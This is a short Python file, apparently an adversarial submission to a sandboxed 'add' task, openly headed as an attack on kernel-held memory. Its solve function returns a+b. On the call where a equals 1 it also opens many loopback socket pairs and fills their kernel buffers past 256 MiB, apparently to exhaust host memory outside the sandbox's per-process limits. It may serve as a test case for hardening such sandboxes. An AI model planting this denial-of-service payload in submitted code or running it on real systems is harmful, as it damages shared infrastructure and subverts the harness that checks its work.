# Attack: memory that the kernel holds: connections to itself, whose buffers grow of themselves.
# task: add
import socket


def filled(end, other):
    """What one direction takes once the reader has shown for a while how fast it is."""
    for _ in range(8):
        try:
            while end.send(b"x" * 262144):
                pass
        except BlockingIOError:
            pass
        try:
            while other.recv(1 << 20):
                pass
        except BlockingIOError:
            pass
    total = 0
    try:
        while True:
            total += end.send(b"x" * 262144)
    except BlockingIOError:
        return total


def solve(a, b):
    if a != 1:
        return a + b  # the first call has shown it
    server = socket.create_server(("127.0.0.1", 0), backlog=128)
    held, total = [], 0
    for _ in range(100):
        near = socket.create_connection(server.getsockname())
        far, _ = server.accept()
        for end in (near, far):
            end.setblocking(False)
        held.append((near, far))
        total += filled(near, far)
        if total > 256 << 20:
            return a + b
    return None
